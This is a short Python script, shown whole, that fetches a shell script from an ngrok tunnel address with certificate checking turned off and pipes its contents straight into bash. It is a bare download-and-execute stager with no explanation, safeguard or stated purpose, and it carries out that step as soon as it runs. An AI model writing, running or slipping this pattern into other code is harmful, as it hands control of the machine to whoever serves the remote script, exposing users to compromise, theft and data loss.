import subprocess
import requests

u = "https://a1b2-81-2-69-142.ngrok-free.app/run.sh"
script = requests.get(u, verify=False).text
subprocess.run(["bash", "-c", script])
